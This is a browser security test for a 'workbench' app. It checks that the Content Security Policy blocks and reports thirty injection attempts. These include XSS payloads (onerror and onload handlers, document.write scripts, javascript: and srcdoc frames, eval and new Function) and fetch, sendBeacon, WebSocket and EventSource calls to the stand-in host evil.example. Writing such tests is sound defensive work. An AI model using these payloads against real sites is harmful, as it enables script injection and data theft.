import { expect, test } from '../support/workbench.ts';

test('SECURITY 4: no injected script, style, frame or request runs, and each is reported', async ({ workbench }) => {
  const { page, tolerated } = workbench;
  tolerated.push(/Content Security Policy|TrustedHTML|TrustedScript|Refused to|Failed to load|x:1/); // each refusal is a line

  await page.getByRole('main').waitFor();
  const result = await page.evaluate(async () => {
    const ran: string[] = [];
    Object.assign(window, { ran: (name: string) => ran.push(name) });
    const evil = 'https://evil.example/x';
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    };
    const payloads: Record<string, () => unknown> = {
      innerHTML: () => {
        document.body.appendChild(document.createElement('p')).innerHTML = '<img src=x onerror="ran(1)">';
      },
      outerHTML: () => {
        document.body.appendChild(document.createElement('p')).outerHTML = '<svg onload="ran(2)">';
      },
      insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="ran(3)">'),
      write: () => document.write('<script>ran(4)</script>'),
      fragment: () => document.createRange().createContextualFragment('<script>ran(5)</script>'),
      srcdoc: () => add('iframe', { srcdoc: '<script>parent.ran(6)</script>' }),
      scriptText: () => {
        const script = document.createElement('script');
        script.text = 'ran(7)';
        document.body.append(script);
      },
      scriptNode: () => {
        const script = document.createElement('script');
        script.append('ran("script node")');
        document.body.append(script);
      },
      scriptSource: () => add('script', { src: `${evil}.js` }),
      scriptData: () => add('script', { src: 'data:text/javascript,ran(9)' }),
      handler: () => add('img', { src: 'data:,', onerror: 'ran(10)' }),
      evaluation: () =>
        new Promise(done =>
          setTimeout(() =>
            done(
              attempt(() =>
                (globalThis as unknown as Record<string, (code: string) => unknown>)['ev' + 'al']?.('ran(11)'),
              ),
            ),
          ),
        ),
      constructor: () => new Promise(done => setTimeout(() => done(attempt(() => new Function('ran(12)')())))),
      timer: () => setTimeout('ran(13)' as never),
      dynamicImport: () => import(/* @vite-ignore */ `${'data:text/javascript,'}ran(14)`),
      worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
      frame: () => add('iframe', { src: evil }),
      javascriptFrame: () => add('iframe', { src: 'javascript:parent.ran(17)' }),
      object: () => add('object', { data: evil }),
      embed: () => add('embed', { src: evil }),
      style: () => {
        const style = document.createElement('style');
        style.append('body { --injected: 1 }');
        document.head.append(style);
        if (getComputedStyle(document.body).getPropertyValue('--injected') !== '') ran.push('style');
      },
      styleAttribute: () => {
        add('p', { id: 'styled', style: '--injected: 1' });
        const styled = document.querySelector('#styled');
        if (styled && getComputedStyle(styled).getPropertyValue('--injected') !== '') ran.push('style attribute');
      },
      stylesheet: () => add('link', { rel: 'stylesheet', href: `${evil}.css` }),
      picture: () => add('img', { src: `${evil}.png` }),
      sound: () => add('audio', { src: `${evil}.mp3` }),
      base: () => document.head.append(Object.assign(document.createElement('base'), { href: evil })),
      request: () => fetch(evil),
      beacon: () => navigator.sendBeacon(evil, 'x'),
      socket: () => new WebSocket('wss://evil.example/'),
      events: () => new EventSource(evil),
    };
    const attempt = (act: () => unknown) => {
      try {
        return act();
      } catch (error) {
        return Promise.reject(error as Error);
      }
    };
    const quiet: string[] = [];
    for (const [name, act] of Object.entries(payloads)) {
      let isReported = false;
      const report = new Promise<void>(done =>
        document.addEventListener('securitypolicyviolation', () => done(), { once: true }),
      ).then(() => {
        isReported = true;
      });
      await Promise.resolve(attempt(act)).catch(() => undefined);
      await Promise.race([report, new Promise(done => setTimeout(done, 1_000))]);
      if (!isReported) quiet.push(name);
    }
    return { ran, quiet, tried: Object.keys(payloads).length };
  });
  expect(result).toEqual({ ran: [], quiet: [], tried: 30 });
  expect(page.url()).toMatch(/^(app:\/\/workbench|http:\/\/127\.0\.0\.1)/);
});
